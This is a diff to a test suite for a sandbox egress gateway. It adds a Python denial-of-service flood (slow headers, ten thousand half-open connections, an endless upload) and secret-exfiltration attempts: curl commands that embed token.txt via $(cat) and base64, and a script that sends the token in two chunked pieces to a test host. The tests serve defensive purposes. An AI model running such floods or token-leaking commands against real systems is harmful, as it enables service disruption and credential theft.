@@ -2,9 +2,11 @@ import { createServer, type Socket } from 'node:net'
 import { monitorEventLoopDelay } from 'node:perf_hooks'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest'
-import type { Egress, EgressDecision } from '../../src/domain/egress.ts'
+import type { BoxKind } from '../../src/domain/box.ts'
+import type { Egress, EgressCounts, EgressDecision } from '../../src/domain/egress.ts'
 import type { Gateway, Leak, Overseer } from '../../src/domain/gateway.ts'
 import { createGateway } from '../../src/gateway/gateway.ts'
+import type { GatewayLimits } from '../../src/gateway/limits.ts'
 import { dialTcp } from '../../src/gateway/network.ts'
 import { anthropic } from '../../src/gateway/upstreams/anthropic.ts'
 import { docker } from '../support/docker.ts'
@@ -93,8 +95,12 @@ let leaks: Leak[]
 beforeAll(async () => {
   stage = await openStage({ 'a.txt': 'a\n', 'token.txt': token })
   far = await openFar()
-  gateway = createGateway({
-    upstreams: [anthropic({ origin: 'http://model.test', credential: { kind: 'key', value: realKey } })],
+  gateway = openGateway({})
+})
+function openGateway(limits: Partial<GatewayLimits>): Gateway {
+  return createGateway({
+    limits,
+    upstreams: [anthropic({ origin: 'http://model.test', key: realKey })],
     secrets: [{ name: 'deploy-token', value: token }],
     prices: {},
     clock: Date.now,
@@ -108,7 +114,7 @@ beforeAll(async () => {
       return dialTcp('127.0.0.1', far.port, signal)
     },
   })
-})
+}
 afterAll(async () => {
   await far[Symbol.asyncDispose]()
   await stage[Symbol.asyncDispose]()
@@ -134,17 +140,35 @@ const overseer: Overseer = {
 async function walled(
   argv: readonly string[],
   {
+    kind = 'agent',
     egress = open,
     by = overseer,
+    through = gateway,
+    accepted,
+    counted,
     during,
-  }: { egress?: Egress; by?: Overseer; during?: (name: string) => Promise<void> } = {},
+  }: {
+    /** One agent box of a task runs at a time. */
+    kind?: BoxKind
+    egress?: Egress
+    by?: Overseer
+    through?: Gateway
+    /** Called for every connection that comes from the box. */
+    accepted?: () => void
+    /** Called with what the gateway has counted at the box's end. */
+    counted?: (counts: EgressCounts) => void
+    during?: (name: string) => Promise<void>
+  } = {},
 ): Promise<string> {
-  const spec = await stage.spec(argv, { egress })
-  const passage = gateway.open(spec, by)
+  const spec = await stage.spec(argv, { kind, egress })
+  const passage = through.open(spec, by)
   const notes = new Notes()
   const materials = {
     ...stage.materials,
-    accept: (connection: NodeJS.ReadWriteStream) => passage.accept(connection),
+    accept: (connection: NodeJS.ReadWriteStream) => {
+      accepted?.()
+      passage.accept(connection)
+    },
   }
   try {
     const running = stage.engine.run(spec, materials, notes, new AbortController().signal)
@@ -154,6 +178,7 @@ async function walled(
     }
     return (await running).output
   } finally {
+    counted?.(passage.counts())
     await passage.close()
     await stage.engine.remove(spec.name)
   }
@@ -186,6 +211,73 @@ const get = (url: string, more = ''): string =>
   ask(
     `GET ${url} HTTP/1.1\r\nHost: ${/^http:\/\/([^/]*)/.exec(url)?.[1] ?? ''}\r\n${more}Connection: close\r\n\r\n`,
   )
+
+/** What the box tells of the flood: how many connections were open at the end, answered with 503, and closed without an answer. */
+interface Flood {
+  readonly kept: number
+  readonly turned: number
+  readonly cut: number
+  /** How long each head that came byte by byte was listened to, seconds. */
+  readonly slow: readonly number[]
+}
+
+const flood = `import json, select, socket, threading, time
+def dial():
+    s = socket.create_connection(("127.0.0.1", 3128), 10)
+    s.settimeout(10)
+    return s
+begun, over = threading.Semaphore(0), threading.Event()
+slow = []
+def creep():
+    s = dial()
+    since = time.monotonic()
+    s.sendall(b"GET http://allowed.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nX-Slow: ")
+    begun.release()
+    try:
+        while time.monotonic() - since < 15:
+            s.sendall(b"x")
+            if select.select([s], [], [], 0.1)[0] and s.recv(1000) == b"": break
+    except OSError: pass
+    slow.append(time.monotonic() - since)
+def upload():
+    s = dial()
+    s.sendall(b"POST http://allowed.test/endless HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
+    begun.release()
+    try:
+        while not over.is_set():
+            s.sendall(b"10000\\r\\n" + b"x" * 65536 + b"\\r\\n")
+            time.sleep(0.02)
+    except OSError: pass
+threads = [threading.Thread(target=each) for each in (upload, creep, creep, creep, creep)]
+for each in threads: each.start()
+for each in threads: begun.acquire()
+time.sleep(0.2) # until the gateway has them all
+poll, standing, turned, cut = select.epoll(), {}, 0, 0
+def drain(wait):
+    global turned, cut
+    for fd, _ in poll.poll(wait):
+        s = standing.pop(fd)
+        try: said = s.recv(1000)
+        except OSError: said = b""
+        if b" 503 " in said: turned += 1
+        else: cut += 1
+        poll.unregister(fd)
+        s.close()
+for n in range(10000):
+    s = dial()
+    standing[s.fileno()] = s
+    poll.register(s, select.EPOLLIN)
+    try: s.sendall(b"GET http://allo")
+    except OSError: pass
+    if n % 20 == 19: drain(0)
+before = -1
+while before != len(standing):
+    before = len(standing)
+    drain(0.3)
+kept = len(standing)
+over.set()
+for each in threads: each.join()
+print(json.dumps({"kept": kept, "turned": turned, "cut": cut, "slow": slow}))`
 
 /** Each target by CONNECT and by a plain request. */
 const both = (label: string, hosts: readonly string[]): Attempts =>
@@ -354,7 +446,7 @@ describe('what a channel leads to', () => {
 
   attack(
     'A070 secrets on their way out',
-    'Send a known secret to an upstream and to an allowed host: in path, query, header and body, raw, base64, hex and cut in two; send the placeholder key elsewhere.',
+    'Send a known secret to an upstream and to an allowed host: in path, query, header and body, raw, base64, also shifted, hex and in two pieces; send the placeholder key elsewhere.',
     async ({ saw }) => {
       const message = (text: string): string =>
         `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"${text}"}]}`
@@ -370,6 +462,16 @@ describe('what a channel leads to', () => {
         'A070 query': plain('"http://allowed.test/?q=$(base64 -w0 token.txt)"'),
         'A070 header': plain('-H "X-Note: $(cat token.txt)" http://allowed.test/'),
         'A070 plain body': plain('-d "$(cat token.txt)" http://allowed.test/'),
+        'A070 plain body in two pieces': python(`import socket, sys, time
+token = open("token.txt", "rb").read()
+s = socket.create_connection(("127.0.0.1", 3128), 5)
+s.settimeout(5)
+s.sendall(b"POST http://allowed.test/endless HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
+for piece in (token[:10], token[10:]):
+    s.sendall(b"%x\\r\\n%s\\r\\n" % (len(piece), piece))
+    time.sleep(0.3)
+s.sendall(b"0\\r\\n\\r\\n")
+sys.exit(0 if b" 200 " in s.recv(1000) else 1)`),
         'A070 no such route': `curl -sS --fail -m 10 -H 'x-api-key: placeholder' http://127.0.0.1:3128/anthropic/v1/files`,
         'A070 no such upstream': `curl -sS --fail -m 10 http://127.0.0.1:3128/other/v1/messages`,
         'placeholder to the allowed host': plain('-H "x-api-key: placeholder" http://allowed.test/'),
@@ -380,7 +482,12 @@ describe('what a channel leads to', () => {
         answers.get('call of the model').code,
         answers.get('placeholder to the allowed host').code,
       ]).toEqual([0, 0])
-      const encoded = [token, Buffer.from(token).toString('base64'), Buffer.from(token).toString('hex')]
+      const encoded = [
+        token,
+        token.slice(10),
+        Buffer.from(token).toString('base64'),
+        Buffer.from(token).toString('hex'),
+      ]
       expect(far.seen.filter((text) => encoded.some((each) => text.includes(each)))).toEqual([])
       expect(far.seen.filter((text) => text.includes(realKey)).map((text) => text.split('\r\n')[0])).toEqual([
         'POST /v1/messages HTTP/1.1',
@@ -429,51 +536,64 @@ describe('what a channel leads to', () => {
 
   attack(
     'A073 a flood on the proxy',
-    'Open two thousand connections and say nothing, send heads byte by byte, and upload without end, all at once.',
+    'All at once: upload all the while, send four heads byte by byte, and open ten thousand connections that begin a request and say no more; ask from another box meanwhile. A head has 6 s here, not 30.',
     async ({ saw }) => {
+      const headMs = 6000
+      const hasty = openGateway({ headMs })
       const lag = monitorEventLoopDelay({ resolution: 5 })
-      lag.enable()
-      await sleep(2000)
-      // What else this machine does is not the flood's doing.
-      const before = lag.percentile(99) / 1e6
-      lag.reset()
-      const answers = await tried({
-        connections: python(`import socket
-kept, turned = [], 0
-for n in range(2000):
-    try:
-        s = socket.create_connection(("127.0.0.1", 3128), 2); s.settimeout(0.01)
-        s.sendall(b"GET http://allo")
-        kept.append(s)
-    except OSError: turned += 1
-for s in kept:
-    try:
-        if s.recv(100) != None: turned += 1
-    except OSError: pass
-print(len(kept), turned)`),
-        upload: python(`import socket
-import time
-time.sleep(1) # until those before are known to be gone
-s = socket.create_connection(("127.0.0.1", 3128), 15); s.settimeout(15)
-s.sendall(b"POST http://allowed.test/endless HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")
-sent = 0
-try:
-    while sent < 1 << 26:
-        s.sendall(b"10000\\r\\n" + b"x" * 65536 + b"\\r\\n"); sent += 65536
-except OSError as e: pass
-print(sent)`),
-        after: get('http://allowed.test/'),
-      })
+      let came = 0
+      let counts: Pick<EgressCounts, 'denied'> = { denied: 0 }
+      const others = Object.fromEntries(
+        [1, 2, 3, 4, 5, 6].map((n) => [`other ${n}`, `sleep 0.7; ${get('http://allowed.test/')}`]),
+      )
+      const recorded: EgressDecision[] = []
+      const noted: Overseer = { ...overseer, decided: (decision) => void recorded.push(decision) }
+      const [answers, beside] = await Promise.all([
+        tried(
+          { flood: python(flood) },
+          {
+            through: hasty,
+            by: noted,
+            counted: (all) => (counts = all),
+            accepted: () => {
+              if (came === 0) lag.enable()
+              came += 1
+            },
+          },
+        ),
+        tried(others, { kind: 'setup', through: hasty }),
+      ])
       lag.disable()
       const worst = lag.percentile(99) / 1e6
-      // What the box still sends after that is dropped in the box.
-      expect(answers.get('upload').code).toBe(0)
-      expect(far.bytes).toBeLessThan(5 * 1024 * 1024)
-      expect(worst).toBeLessThan(Math.max(50, 3 * before))
-      expect(decisions.length).toBeLessThan(100)
+      const { code, out } = answers.get('flood')
+      expect([code, out]).toEqual([0, expect.stringMatching(/^\{.*\}\n$/)])
+      const told = JSON.parse(out) as Flood
+      expect(came).toBeGreaterThanOrEqual(10_000)
+      expect(told.kept + told.turned + told.cut).toBe(10_000)
+      expect(told.kept).toBeGreaterThan(0)
+      // The slow heads had the others, and the upload while it lasted.
+      expect(told.kept).toBeLessThanOrEqual(64 - 4)
+      // Of all others only those were let in for which a head's time had made room. Whether such a one reads its 503, or finds
+      // that nobody has read its head, is a race.
+      expect(counts.denied).toBeGreaterThan(9500)
+      expect(told.turned).toBeGreaterThan(0)
       saw(
-        `Connections past the limit were turned away, the upload ended at its limit of 4 MiB, ${decisions.length} decisions stood on record, ` +
-          `and the event loop of the gateway lagged ${worst.toFixed(0)} ms at most in 99 of 100 turns (${before.toFixed(0)} ms before the flood).`,
+        `Of ten thousand connections ${told.kept} stood open when the last had come, beside the four slow heads, where 64 are the limit; the gateway counted ${counts.denied} refusals.`,
+      )
+      expect(told.slow).toHaveLength(4)
+      for (const seconds of told.slow) {
+        expect(seconds * 1000).toBeGreaterThan(headMs - 500)
+        expect(seconds * 1000).toBeLessThan(headMs + 3000)
+      }
+      saw(`Heads that came byte by byte were cut after ${told.slow.map((s) => s.toFixed(1)).join(', ')} s.`)
+      expect(far.bytes).toBeGreaterThan(3 * 1024 * 1024)
+      expect(far.bytes).toBeLessThan(5 * 1024 * 1024)
+      expect(recorded.length).toBeLessThan(100)
+      saw(`The upload ended at its limit of 4 MiB, and ${recorded.length} decisions stood on record.`)
+      expect(beside.of('other').map(([, { code }]) => code)).toEqual([0, 0, 0, 0, 0, 0])
+      expect(worst).toBeLessThan(50)
+      saw(
+        `The event loop of the gateway lagged ${worst.toFixed(0)} ms at most in 99 of 100 turns, and six requests of another box were answered meanwhile.`,
       )
     },
   )
